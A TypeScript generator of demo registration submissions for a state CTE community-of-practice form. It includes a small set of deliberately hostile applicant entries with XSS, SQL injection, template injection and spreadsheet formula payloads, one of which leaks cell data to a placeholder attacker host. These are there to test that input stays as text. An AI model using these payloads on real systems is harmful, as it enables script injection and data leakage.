// A few hundred realistic, varied applicants for the "load demo applicants" action. Answers are
// built from the form the bundle created (titles and choices come from the form model), so the
// demo follows the form rather than a copy of it. Deterministic for a given seed.
import type { DevForm } from './devWire';
import { mulberry32 } from '../random';

export interface DemoSubmission {
  at: Date;
  email: string;
  answers: Record<string, string | string[]>;
}

export interface DemoOptions {
  count: number;
  seed: number;
  /** first submission time */
  from: Date;
  /** the registration deadline: a few submissions come after it (flagged late) */
  deadline: Date;
}

const FIRST = [
  'Maria',
  'James',
  'Aisha',
  'Wei',
  'Carlos',
  'Priya',
  'Michael',
  'Fatima',
  'David',
  'Sofia',
  'Kwame',
  'Emily',
  'Hiroshi',
  'Olivia',
  'Jamal',
  'Chloé',
  'Mateo',
  'Grace',
  'Tyrone',
  'Ananya',
  'Robert',
  'Zoë',
  'Luis',
  'Hannah',
  'Nguyễn',
  'Keisha',
  'Thomas',
  'Leilani',
  'Samuel',
  'Ingrid',
  'Diego',
  'Rachel',
  'Mohammed',
  'Kathleen',
  'Andrés',
  'Tanisha',
  'Brian',
  'Mei',
  'José',
  'Laura',
  'Darnell',
  'Siobhan',
  'Peter',
  'Yolanda',
  'Ahmed',
  'Jennifer',
  'Kai',
  'Rosa',
  'William',
  'Amara',
  'Eric',
  'Noelani',
  'Patricia',
  'Raj',
  'Deborah',
  'Tomás',
  'Lakshmi',
  'Marcus',
  'Bethany',
  'Juan Carlos',
  'Mary-Kate',
  'Seo-yeon',
  'Björn',
  'Ngozi',
  'Christopher',
  'Ayesha',
];
const LAST = [
  'Garcia',
  'Johnson',
  'Okafor',
  'Chen',
  'Rodriguez',
  'Patel',
  'Smith',
  'Hassan',
  'Williams',
  'Rossi',
  'Mensah',
  'Brown',
  'Tanaka',
  'Davis',
  'Washington',
  'Dubois',
  'Hernández',
  'Kim',
  'Jackson',
  'Iyer',
  'Miller',
  "O'Brien",
  'Lopez',
  'Nguyen',
  'Wilson',
  'Kahananui',
  'Anderson',
  'Larsen',
  'Martinez',
  'Cohen',
  'Ali',
  'Murphy',
  'Sánchez',
  'Thompson',
  'Wang',
  'Ramírez',
  'White',
  'Harris',
  'Begay',
  'Clark',
  'Lewis',
  'Robinson',
  'Walker',
  'Young',
  'Müller-Schmidt',
  'Allen',
  'King',
  'Wright',
  'Scott',
  'Torres',
  'Hill',
  'Flores',
  'Green',
  'Adams',
  'Baker',
  'Nakamura',
  'Van der Berg',
  'McAllister',
  'St. James',
  'Oyelaran',
  'Fernández',
  'Mahmoud',
  'Kowalski',
];
const TITLES = [
  'State CTE Director',
  'Assistant State Director of CTE',
  'CTE Program Specialist',
  'Perkins Coordinator',
  'Data Analyst',
  'Director of Accountability',
  'Education Program Consultant',
  'Career Pathways Coordinator',
  'Director of Secondary CTE',
  'Postsecondary CTE Specialist',
  'Research Analyst',
  'Workforce Development Manager',
  'Policy Advisor',
  'Education Specialist, Work-Based Learning',
  'Program Manager – Learner Engagement',
  'Director, College & Career Readiness',
  'Senior Data Manager',
  'CLNA Lead',
  'Dual Enrollment Coordinator',
  'Equity & Access Specialist',
  'Associate Commissioner',
  'Grants Manager',
];
const PERSONAL = ['gmail.com', 'yahoo.com', 'outlook.com', 'hotmail.com', 'icloud.com', 'aol.com', 'protonmail.com'];
const HOPES = [
  'Learn how other states are linking K-12 and postsecondary data.',
  'Practical strategies for engaging local recipients in the CLNA process.',
  'I want to hear how other states bring student voice into program review, and share what we tried this year.',
  'Connections with peers who are working on the same Perkins V priorities.',
  'Ideas for building a data-driven culture in a small state office;\nwe are two people covering all of CTE.',
  'Better alignment between our secondary programs of study and the community college system, especially for dual enrollment.',
  'Honestly, mostly networking. Our team is new to the state office.',
  'How to use the CLNA to advance equity — "what works" beyond compliance.',
  'Tools for monitoring progress on our state-determined performance levels.',
  'We are redesigning our learner advisory council and would love examples, templates, anything.',
  'Moving from data collection to data use: dashboards, data stories, and training for locals.',
  'Peer feedback on our state plan revisions (due next spring).',
];

/** States whose agencies get a plausible .gov domain; others use a generic one. */
function stateDomain(state: string): string {
  const slug = state.toLowerCase().replace(/[^a-z]+/g, '');
  return `education.${slug}.gov`;
}

function agencyFor(state: string, type: string, rnd: () => number): string {
  if (type.startsWith('Lead')) {
    return pick(rnd, [
      `${state} Department of Education`,
      `${state} Department of Career and Technical Education`,
      `${state} State Board for Career and Technical Education`,
      `Office of CTE, ${state} Department of Education`,
    ]);
  }
  if (type.startsWith('State-level')) {
    return pick(rnd, [
      `${state} Community College System`,
      `${state} Department of Labor & Workforce Development`,
      `${state} Higher Education Commission`,
      `${state} Workforce Development Board`,
      `${state} Board of Regents`,
      `${state} Department of Commerce`,
    ]);
  }
  return pick(rnd, [
    `${state} Regional Education Service Center`,
    'Lincoln County School District',
    'Self-employed consultant',
    `${state} Association of CTE Educators`,
    'Riverside Technical College',
    'Nonprofit: Pathways Forward',
  ]);
}

/** The hostile applicants: markup, formula injection and quoting, to show they stay text everywhere. */
const HOSTILE: { first: string; last: string; agency?: string; title?: string; hope?: string }[] = [
  { first: '<img src=x onerror=alert(1)>', last: 'Tester', hope: '<script>alert("sidebar")</script>' },
  { first: 'Hyper', last: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', agency: '=IMPORTXML("http://evil.example","//a")' },
  { first: '+SUM(1,2)', last: '-Minus', agency: '@Agency', title: '=1+1' },
  { first: "Robert'); DROP TABLE Students;--", last: '"Bobby" Tables', hope: 'Line one\r\nLine two, with ; semicolons \\ and "quotes"' },
  { first: 'Zalgo', last: '</textarea></script><b>bold</b>', agency: '${7*7} {{7*7}}' },
];

export function demoSubmissions(form: DevForm, opts: DemoOptions): DemoSubmission[] {
  const rnd = mulberry32(opts.seed);
  const byTitle = new Map(form.items.map((i) => [i.title, i]));
  const choices = (title: string, fallback: string[]): string[] => {
    const c = byTitle.get(title)?.choices ?? [];
    return c.length ? c : fallback;
  };
  const states = choices('State', ['Ohio', 'Texas', 'California', 'New York', 'Georgia']);
  const types = choices('Agency type', ['Lead state CTE agency', 'State-level partnering agency', 'Other']);
  const communities = choices('Communities of Practice', ['Learner Voice']);
  const commitment = choices('Commitment', ['I commit']);
  const hasHope = byTitle.has('What do you hope to gain?');

  const lateCount = Math.max(3, Math.round(opts.count * 0.05));
  const onTimeEnd = Math.max(opts.from.getTime() + 3600e3, opts.deadline.getTime() - 60e3);
  const lateEnd = Math.max(onTimeEnd, opts.deadline.getTime()) + 2 * 24 * 3600e3;
  const times: number[] = [];
  for (let i = 0; i < opts.count; i++) {
    const late = i < lateCount;
    const [a, b] = late ? [Math.max(opts.deadline.getTime() + 60e3, opts.from.getTime()), lateEnd] : [opts.from.getTime(), onTimeEnd];
    times.push(workingHours(a + rnd() * (b - a)));
  }

  const used = new Set<string>();
  const people: DemoSubmission[] = [];
  const hostileEvery = Math.max(1, Math.floor(opts.count / HOSTILE.length));
  let hostileUsed = 0;
  for (let i = 0; i < opts.count; i++) {
    const hostile = i % hostileEvery === Math.min(7, hostileEvery - 1) && hostileUsed < HOSTILE.length ? HOSTILE[hostileUsed++] : undefined;
    const first = hostile?.first ?? pick(rnd, FIRST);
    const last = hostile?.last ?? pick(rnd, LAST);
    const state = weightedState(states, rnd);
    const r = rnd();
    const type = r < 0.62 ? types[0] : r < 0.9 ? types[1 % types.length] : types[types.length - 1];
    const personal = rnd() < 0.09;
    const local = `${ascii(first)}.${ascii(last)}`.replace(/^\.|\.$/g, '') || 'applicant';
    let email = `${local}@${personal ? pick(rnd, PERSONAL) : stateDomain(state)}`;
    for (let n = 2; used.has(email); n++) email = email.replace(/(\d*)@/, `${n}@`);
    used.add(email);
    const picked = pickCommunities(communities, rnd);
    const answers: Record<string, string | string[]> = {
      'First name': first,
      'Last name': last,
      'Job title': hostile?.title ?? pick(rnd, TITLES),
      'Agency or organization': hostile?.agency ?? agencyFor(state, type, rnd),
      'Agency type': type,
      State: state,
      'Communities of Practice': picked,
      Commitment: commitment.slice(0, 1),
    };
    const hope = hostile?.hope ?? (rnd() < 0.6 ? pick(rnd, HOPES) : '');
    if (hasHope && hope) answers['What do you hope to gain?'] = hope;
    people.push({ at: new Date(times[i]), email, answers });
  }

  // Resubmissions: the same person applying again later, for the same or an extra community.
  const resubmissions: DemoSubmission[] = [];
  const resubmitCount = Math.max(2, Math.round(opts.count * 0.05));
  for (let i = 0; i < resubmitCount; i++) {
    const original = people[Math.floor(rnd() * people.length)];
    const extra = pickCommunities(communities, rnd);
    const answers = {
      ...original.answers,
      'Job title': pick(rnd, TITLES),
      'Communities of Practice': rnd() < 0.5 ? original.answers['Communities of Practice'] : extra,
    };
    const at = new Date(Math.min(original.at.getTime() + (1 + rnd() * 10) * 24 * 3600e3, lateEnd));
    resubmissions.push({ at: new Date(workingHours(at.getTime())), email: original.email, answers });
  }
  return [...people, ...resubmissions].sort((a, b) => a.at.getTime() - b.at.getTime());
}

function pickCommunities(all: string[], rnd: () => number): string[] {
  const n = rnd() < 0.55 ? 1 : rnd() < 0.8 ? 2 : rnd() < 0.9 ? 3 : all.length;
  const shuffled = [...all].sort(() => rnd() - 0.5);
  return all.filter((c) => shuffled.slice(0, n).includes(c));
}

/** Bigger states apply more often; every state and territory can appear. */
function weightedState(states: string[], rnd: () => number): string {
  const big = ['California', 'Texas', 'Florida', 'New York', 'Pennsylvania', 'Ohio', 'Georgia', 'Michigan', 'North Carolina', 'Illinois'];
  const bigPresent = states.filter((s) => big.includes(s));
  return rnd() < 0.3 && bigPresent.length ? pick(rnd, bigPresent) : pick(rnd, states);
}

/** Moves an instant to a weekday between 8 am and 6 pm Eastern (EDT: the demo window is summer). */
function workingHours(t: number): number {
  const edt = 4 * 3600e3;
  const day = 24 * 3600e3;
  let dayStart = Math.floor((t - edt) / day) * day;
  const weekday = new Date(dayStart).getUTCDay();
  if (weekday === 6) dayStart += 2 * day;
  if (weekday === 0) dayStart += day;
  const minute = 8 * 60 + (Math.floor(t / 60000) % 600);
  return dayStart + minute * 60000 + edt;
}

function ascii(s: string): string {
  return s
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '');
}

function pick<T>(rnd: () => number, list: readonly T[]): T {
  return list[Math.floor(rnd() * list.length)];
}
